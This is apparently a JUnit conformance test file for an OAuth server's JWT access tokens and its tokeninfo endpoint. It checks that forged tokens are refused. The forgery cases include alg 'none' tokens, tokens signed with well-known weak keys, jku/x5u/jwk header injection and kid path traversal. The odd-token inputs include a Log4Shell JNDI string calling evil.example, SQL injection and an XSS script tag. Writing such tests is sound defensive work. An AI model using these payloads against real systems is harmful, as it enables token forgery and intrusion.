package dev.authgate.server.conformance;

import static dev.authgate.server.conformance.AppUnderTest.TV;
import static dev.authgate.server.conformance.OAuth.TOKENINFO;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.authgate.server.ToldSecrets;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("Requirements 1.6 and 1.7: the access token (RFC 9068) and GET /oauth/tokeninfo (RFC 6750)")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AccessTokenTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @RegisterExtension
    static final AppUnderTest APP = AppUnderTest.unlimited();

    private Reply answer = new Reply(0, java.util.Map.of(), "");
    private String token = "";

    @BeforeAll
    void collectTokens() {
        answer = APP.tokens(Person.ANN, TV);
        token = answer.text("access_token");
    }

    private static JsonNode part(String token, int part) {
        var encoded = List.of(token.split("\\.", -1)).get(part);
        return json(new String(Base64.getUrlDecoder().decode(encoded), StandardCharsets.UTF_8));
    }

    private static JsonNode json(String text) {
        try {
            return JSON.readTree(text);
        } catch (JsonProcessingException e) {
            throw new AssertionError(e);
        }
    }

    private static String encoded(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static void assertDead(String forged) {
        var refused = APP.oauth().tokenInfo(forged).refused(401, "invalid_token");
        assertThat(refused.header("WWW-Authenticate")).contains("error=\"invalid_token\"");
    }

    @Nested
    @DisplayName("What it says")
    class Claims {
        @Test
        @Tag("AT-01")
        @Tag("AT-02")
        void names_its_type_and_algorithm() {
            assertThat(part(token, 0).path("typ").asText()).isEqualTo("at+jwt");
            assertThat(part(token, 0).path("alg").asText()).isEqualTo("HS256");
            assertThat(part(token, 0).path("kid").asText()).isNotEmpty();
        }

        @Test
        @Tag("AT-03")
        @Tag("AT-04")
        @Tag("AT-12")
        void holds_every_claim_of_rfc_9068_section_2_2() {
            var claims = part(token, 1);

            assertThat(claims.fieldNames())
                    .toIterable()
                    .contains("iss", "exp", "aud", "sub", "client_id", "iat", "jti", "scope");
            assertThat(claims.path("iss").asText()).isEqualTo(AppUnderTest.BASE_URL);
            assertThat(claims.path("client_id").asText()).isEqualTo(TV);
            assertThat(claims.path("sub").asText()).isEqualTo("user-ann");
            assertThat(claims.path("scope").asText()).isEqualTo(answer.text("scope"));
        }

        @Test
        @Tag("AT-05")
        @Tag("AT-13")
        void lives_as_long_as_expires_in_says_and_no_longer_than_an_hour() {
            var claims = part(token, 1);
            var lifetime = claims.path("exp").asLong() - claims.path("iat").asLong();

            assertThat(lifetime).isEqualTo(answer.json().path("expires_in").asLong());
            assertThat(lifetime).isLessThanOrEqualTo(3600);
        }

        @Test
        @Tag("AT-11")
        void has_an_id_of_its_own() {
            assertThat(part(APP.accessToken(), 1).path("jti"))
                    .isNotEqualTo(part(token, 1).path("jti"));
        }

        @Test
        @Tag("AT-41")
        void tells_nothing_of_the_person() {
            assertThat(part(token, 1).fieldNames()).toIterable().doesNotContain("email", "name", "username");
        }
    }

    @Nested
    @DisplayName("A forged token")
    class Forged {
        private String header() {
            return token.substring(0, token.indexOf('.'));
        }

        private String payload() {
            return token.substring(token.indexOf('.') + 1, token.lastIndexOf('.'));
        }

        private String signature() {
            return token.substring(token.lastIndexOf('.') + 1);
        }

        @Test
        @Tag("AT-07")
        void with_another_payload_or_signature_is_dead() {
            var richer = ((ObjectNode) part(token, 1)).put("scope", "admin").toString();
            var turned = signature().startsWith("A") ? "B" : "A";

            assertDead(header() + "." + encoded(richer) + "." + signature());
            assertDead(header() + "." + payload() + "." + turned + signature().substring(1));
        }

        @Test
        @Tag("AT-07")
        void with_parts_cut_off_is_dead() {
            assertDead(header() + "." + payload());
            assertDead(header() + "." + payload() + ".");
            assertDead(header() + ".." + signature());
            assertDead(token.substring(0, token.length() - 1));
            assertDead(token + ".x");
        }

        @ParameterizedTest
        @ValueSource(strings = {"none", "None", "NONE", "nOnE", "", "HS384", "RS256"})
        @Tag("AT-08")
        void with_another_algorithm_is_dead(String algorithm) {
            var header = ((ObjectNode) part(token, 0)).put("alg", algorithm).toString();

            assertDead(encoded(header) + "." + payload() + ".");
            assertDead(encoded(header) + "." + payload() + "." + signature());
        }

        @ParameterizedTest
        @ValueSource(strings = {"secret", "your-256-bit-secret", "00000000000000000000000000000000"})
        @Tag("AT-09")
        void signed_with_a_key_that_everyone_knows_is_dead(String key) throws GeneralSecurityException {
            var mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(key.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
            var signature = mac.doFinal((header() + "." + payload()).getBytes(StandardCharsets.US_ASCII));

            assertDead(header() + "." + payload() + "."
                    + Base64.getUrlEncoder().withoutPadding().encodeToString(signature));
        }

        @Test
        @Tag("AT-10")
        void that_names_its_own_key_is_dead_and_nothing_is_fetched() throws Exception {
            try (var listener = new ServerSocket(0)) {
                listener.setSoTimeout(1);
                var url = "http://127.0.0.1:" + listener.getLocalPort() + "/keys";
                for (var member : List.of(
                        "\"jku\":\"" + url + "\"",
                        "\"x5u\":\"" + url + "\"",
                        "\"jwk\":{\"kty\":\"oct\",\"k\":\"AAAA\"}",
                        "\"crit\":[\"exp\"]",
                        "\"kid\":\"../../dev/null\"",
                        "\"kid\":\"' OR 1=1 --\"",
                        "\"kid\":\"\\u0000\"",
                        "\"kid\":\"\"",
                        "\"kid\":7")) {
                    var header = "{\"typ\":\"at+jwt\",\"alg\":\"HS256\"," + member + "}";
                    assertDead(encoded(header) + "." + payload() + "." + signature());
                }
                org.assertj.core.api.Assertions.assertThatThrownBy(listener::accept)
                        .isInstanceOf(java.net.SocketTimeoutException.class);
            }
        }
    }

    @Nested
    @DisplayName("tokeninfo")
    class TokenInfo {
        @Test
        @Tag("TI-01")
        @Tag("TI-07")
        @Tag("TI-10")
        void tells_about_a_good_token_and_does_not_repeat_it() {
            var told = APP.oauth().tokenInfo(token).json(200);

            assertThat(told.json().path("active").asBoolean()).isTrue();
            assertThat(told.text("username")).isEqualTo("ann");
            assertThat(told.text("client_id")).isEqualTo(TV);
            assertThat(told.text("scope")).isEqualTo(answer.text("scope"));
            assertThat(told.json().path("exp").isIntegralNumber()).isTrue();
            assertThat(told.body()).doesNotContain(token);
        }

        @Test
        @Tag("TI-02")
        @Tag("TI-07")
        @Tag("TI-40")
        void takes_the_token_in_the_query_too_and_keeps_it_out_of_the_log() {
            APP.http().get(TOKENINFO + "?access_token=" + token).json(200);

            ToldSecrets.assertNoneLogged();
        }

        @Test
        @Tag("TI-03")
        void asks_for_a_token_when_there_is_none() {
            var challenged = APP.http().get(TOKENINFO).json(401);

            assertThat(challenged.header("WWW-Authenticate")).isEqualTo("Bearer realm=\"AuthGate\"");
            assertThat(challenged.json().has("error")).isFalse();
        }

        @Test
        @Tag("TI-04")
        void refuses_a_token_that_is_none() {
            assertDead("garbage");
        }

        @Test
        @Tag("TI-05")
        @Tag("TI-06")
        void takes_the_token_once() {
            var both = APP.http().get(TOKENINFO + "?access_token=" + token, "Authorization", "Bearer " + token);
            var twice = APP.http().get(TOKENINFO + "?access_token=" + token + "&access_token=" + token);

            for (var refused : List.of(both, twice)) {
                assertThat(refused.refused("invalid_request").header("WWW-Authenticate"))
                        .contains("error=\"invalid_request\"");
            }
        }

        @ParameterizedTest
        @ValueSource(strings = {"bearer ", "BEARER ", "Bearer  "})
        @Tag("TI-08")
        void reads_the_scheme_in_any_case(String scheme) {
            APP.http().get(TOKENINFO, "Authorization", scheme + token).json(200);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "e30.e30.",
                    "e30.e30.e30",
                    "...",
                    ".",
                    "a.b.c",
                    "${jndi:ldap://evil.example/a}",
                    "' OR '1'='1",
                    "<script>alert(1)</script>",
                    "agr_x",
                    "null",
                    "eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0....",
                    "W10.W10.",
                    "IiI.IiI.",
                    "bnVsbA.bnVsbA."
                })
        @Tag("TI-09")
        void stays_calm_about_odd_tokens(String odd) {
            assertThat(APP.oauth().tokenInfo(odd).refusedSomehow().status()).isIn(400, 401);
            assertThat(APP.http()
                            .get(TOKENINFO + "?access_token=" + Http.encoded(odd))
                            .refusedSomehow()
                            .status())
                    .isIn(400, 401);
        }

        @Test
        @Tag("TI-09")
        void stays_calm_about_long_and_deep_tokens() {
            assertDead("A".repeat(4000));
            assertDead(encoded("{\"alg\":" + "[".repeat(2000)) + ".e30.");
        }

        @Test
        @Tag("RF-08")
        void refuses_a_refresh_token() {
            assertDead(answer.text("refresh_token"));
        }

        @Test
        @Tag("TI-41")
        void refuses_a_token_that_has_expired() {
            var mortal = APP.accessToken();
            APP.oauth().tokenInfo(mortal).json(200);

            APP.clock().advance(Duration.ofHours(1));
            try {
                assertDead(mortal);
            } finally {
                APP.clock().advance(Duration.ofHours(-1));
            }
        }
    }
}
